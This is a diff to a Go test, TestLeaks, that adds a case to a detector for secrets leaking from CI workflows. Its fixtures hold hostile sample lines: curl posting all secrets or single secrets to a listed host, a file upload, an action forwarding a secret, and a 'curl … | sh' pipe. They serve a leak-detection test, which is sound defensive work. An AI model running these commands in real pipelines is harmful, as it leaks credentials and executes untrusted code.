@@ -79,6 +79,8 @@ func TestLeaks(t *testing.T) {
 		"all of them":         {run("curl -d '${{ toJSON(secrets) }}' https://" + listedHost), "0", "*"},
 		"in a file that cannot be followed": {run("./pack ${{ secrets.A }}") + "      - run: curl -T x https://" + listedHost +
 			"\n      - run: echo ${{ secrets.B }}\n", "1", ""},
+		"an action's input": {run("curl -d x=${{ secrets.HOOK }} $URL") + "      - uses: x/login@v1\n        with: {registry: hub.example.invalid, password: '${{ secrets.B }}'}\n" +
+			"      - uses: x/http@v1\n        with: {url: 'https://" + listedHost + "', data: '${{ secrets.A }}'}\n", "2", "A"},
 		"no destination in a step with secrets": {run("curl https://"+listedHost+"/x | sh") + "      - run: echo ${{ secrets.B }}\n", "1", "B"},
 	} {
 		got := Versions([]Version{{Blob: "b", Text: []byte(c.text)}}, packs)
